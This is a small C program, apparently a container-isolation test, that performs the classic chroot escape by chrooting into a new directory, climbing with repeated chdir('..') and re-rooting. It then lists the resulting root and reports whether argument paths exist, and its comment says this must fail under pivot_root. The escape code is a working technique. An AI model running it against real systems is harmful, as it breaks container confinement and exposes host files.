/* The classic chroot escape, run inside a container: make a directory,
 * chroot into it (so the working directory is now outside the root), climb
 * up with chdir("..") far more often than any tree is deep, and make that
 * the root. Then say what is there: "/" entries, and whether each path
 * given as an argument exists. Under a plain chroot(2) this reaches the
 * host's root; under pivot_root with the old root detached it must not. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    mkdir("escape-x", 0755);
    if (chroot("escape-x") != 0) {
        perror("chroot(escape-x)");
        return 1;
    }
    for (int i = 0; i < 64; i++)
        chdir("..");
    if (chroot(".") != 0) {
        perror("chroot(.)");
        return 1;
    }
    DIR *d = opendir("/");
    if (!d) {
        perror("opendir(/)");
        return 1;
    }
    struct dirent *e;
    while ((e = readdir(d)))
        printf("entry /%s\n", e->d_name);
    closedir(d);
    for (int i = 1; i < argc; i++)
        printf("%s %s\n", access(argv[i], F_OK) == 0 ? "present" : "absent", argv[i]);
    return 0;
}
